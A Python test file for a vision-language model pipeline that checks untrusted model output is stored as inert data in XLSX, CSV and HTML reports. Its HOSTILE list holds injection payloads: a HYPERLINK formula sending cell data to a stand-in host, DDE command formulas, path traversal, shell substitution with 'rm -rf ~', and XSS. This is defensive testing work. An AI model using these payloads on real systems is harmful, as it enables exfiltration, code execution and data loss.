"""Untrusted model output: stored and reported as data, never as a spreadsheet formula, a path or a command."""

from __future__ import annotations

import base64
import csv
import zipfile
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from fakeserver import FakeOpenAIServer
from reliability_helpers import image_digest, make_images, model, write_config
from vlmpipe.app.pipeline import run

HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?d="&A1,"Подробнее")',
    "+7 (999) 123-45-67 перезвоните",
    "-2+3 рубля списали дважды",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C touch pwned_cmd'!A0",
    "../../../pwned_path.txt",
    "$(touch pwned_shell) `touch pwned_tick`; rm -rf ~",
    "<script>alert('xss')</script><img src=x onerror=alert(1)> Здравствуйте",
]


def test_hostile_generations_are_strings_in_xlsx_verbatim_in_csv_and_touch_nothing(
    tmp_path: Path, monkeypatch: Any
) -> None:
    data = tmp_path / "data"
    names = make_images(data, len(HOSTILE))
    digests = {}
    for n, text in zip(names, HOSTILE, strict=True):
        url = f"data:image/png;base64,{base64.b64encode((data / n).read_bytes()).decode()}"
        digests[image_digest({"messages": [{"content": url}]})] = text
    monkeypatch.chdir(tmp_path)
    with FakeOpenAIServer(responder=lambda body: digests[image_digest(body)]) as srv:
        cfg = write_config(tmp_path / "c.yaml", data, [model("m", srv.url)])
        result = run(cfg, show_progress=False)
    assert result.exit_code == 0
    wb = load_workbook(result.report_dir / "results.xlsx")
    ws = wb["generations"]
    header = [c.value for c in ws[1]]
    col = header.index("text")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    with zipfile.ZipFile(result.report_dir / "results.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)  # no formula cells
    with (result.report_dir / "generations.csv").open(encoding="utf-8") as f:
        assert sorted(r["text"] for r in csv.DictReader(f)) == sorted(HOSTILE)  # the CSV keeps texts exactly
    html = (result.report_dir / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(" not in html and "<img src=x" not in html  # escaped wherever model text is shown
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in html
    created = {p.name for p in tmp_path.rglob("*")} | {p.name for p in tmp_path.parent.glob("pwned*")}
    assert not any(name.startswith("pwned") for name in created)
    run_files = {p.relative_to(result.run_dir).as_posix() for p in result.run_dir.rglob("*") if p.is_file()}
    assert {"run.sqlite", "config.yaml", "logs/run.log", "report/results.xlsx"} <= run_files
    assert not any("pwned" in f for f in run_files)  # no file was named after a model's text
